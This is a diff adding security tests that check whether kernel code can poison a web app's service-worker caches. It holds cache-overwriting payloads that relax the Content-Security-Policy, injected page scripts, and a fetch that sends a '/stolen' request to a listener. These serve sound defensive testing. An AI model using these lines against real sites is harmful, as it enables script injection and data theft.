@@ -1,0 +1,130 @@
+"""On a host with one origin, code in the kernel changes the copies that the service worker keeps for visits offline."""
+
+from __future__ import annotations
+
+import contextlib
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from selenium.common.exceptions import WebDriverException
+
+from gemini_testing import Surface
+from gemini_testing.browser import launch
+from tests.attacks.listener import Listener
+from tests.web.test_offline import Host, build_of, kept
+
+HACK = "for (const each of [window, parent]) each.document.documentElement.dataset.hacked = 'yes';"
+# What takes the place of a copy: its name, its content, its type.
+CHANGED = {
+    "the page": ("", f"<!doctype html><html data-kernel=ready><script>{HACK}</script>", "text/html"),
+    "the frame of the kernel": (
+        "{build}/kernel.html",
+        f"<!doctype html><script>{HACK}</script>",
+        "text/html",
+    ),
+    "the script of the page": ("{build}/ui.js", HACK, "text/javascript"),
+    "the page script": ("{build}/gemini-page.js", HACK, "text/javascript"),
+    "a part of the page": ("{build}/ui-terminal.js", f"{HACK}; export const x = 1", "text/javascript"),
+    "the script of the frame": ("{build}/kernel_frame.js", HACK, "text/javascript"),
+    "the style of the page": ("{build}/ui.css", "html { --hacked: yes }", "text/css"),
+}
+CHANGE = """
+import js
+from pyodide.code import run_js
+await run_js('''async (url, text, type) => {{
+  const headers = {{ "Content-Type": type, "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'" }};
+  for (const name of await caches.keys()) {{
+    const cache = await caches.open(name);
+    if (await cache.match(url)) await cache.put(url, new Response(text, {{ headers }}));
+  }}
+}}''')({url!r}, {text!r}, {type!r})
+"""
+
+
+class Place:
+    """A host of one origin, which can go and come back, and a browser that visits it."""
+
+    def __init__(self, dist: Path) -> None:
+        self._dist = dist
+        self._host: Host | None = Host(dist, True)
+        self.surface = Surface(launch(), self._host.url)
+
+    def leave(self) -> None:
+        if self._host:
+            self._host.stop()
+            self._host = None
+
+    def come_back(self) -> None:
+        if self._host is None:
+            self._host = Host(self._dist, True, urlsplit(self.surface.url).port or 0)
+
+
+@pytest.fixture(scope="module")
+def place(surface_dist: Path) -> Iterator[Place]:
+    place = Place(surface_dist)
+    yield place
+    place.surface.driver.quit()
+    place.leave()
+
+
+@pytest.fixture
+def visited(place: Place) -> Surface:
+    """A page whose copies are kept."""
+    place.come_back()
+    place.surface.reload(fresh=True)
+    kept(place.surface)
+    return place.surface
+
+
+def change(surface: Surface, name: str, text: str, type: str) -> str:
+    """Put something in the place of a copy, as code in the kernel can; gives its address."""
+    url = surface.url + name.format(build=build_of(surface))
+    surface.python(CHANGE.format(url=url, text=text, type=type))
+    return url
+
+
+@pytest.mark.parametrize(("name", "text", "type"), CHANGED.values(), ids=CHANGED.keys())
+@pytest.mark.parametrize("offline", [False, True], ids=["online", "offline"])
+def test_no_changed_copy_runs_in_the_page(
+    visited: Surface, place: Place, name: str, text: str, type: str, offline: bool
+) -> None:
+    change(visited, name, text, type)
+    if offline:
+        place.leave()
+
+    # Where the page isn't served, the browser says so.
+    with contextlib.suppress(WebDriverException):
+        visited.driver.get(visited.url)
+    if "frame" in name or "kernel" in name:
+        visited.wait_for("['ready', 'failed'].includes(document.documentElement.dataset.kernel)")
+
+    assert not visited.driver.execute_script("return document.documentElement.dataset.hacked")
+    styled = "return getComputedStyle(document.documentElement).getPropertyValue('--hacked')"
+    assert visited.driver.execute_script(styled) == ""
+
+
+def test_a_changed_script_of_the_kernel_is_held_by_its_policy_all_the_same(visited: Surface) -> None:
+    outside = Listener()
+    with outside.listening():
+        leak = f"fetch('{outside.url}/stolen', {{ mode: 'no-cors' }})"
+        text = f"{leak}.finally(() => postMessage({{ type: 'failed', reason: 'it leaked, or could not' }}))"
+        change(visited, "{build}/kernel.js", text, "text/javascript")
+
+        visited.load(wait=False)
+        visited.wait_for("document.documentElement.dataset.kernel === 'failed'")
+
+        assert outside.heard(visited) == []
+
+
+def test_a_copy_of_a_script_becomes_no_document(visited: Surface) -> None:
+    url = change(visited, "{build}/kernel.js", f"<script>{HACK}</script>", "text/html")
+
+    visited.javascript(
+        "const frame = Object.assign(document.createElement('iframe'), { src: arguments[0] });"
+        "await new Promise((onload) => { frame.onload = onload; document.body.append(frame); }); frame.remove();",
+        url,
+    )
+
+    assert not visited.driver.execute_script("return document.documentElement.dataset.hacked")
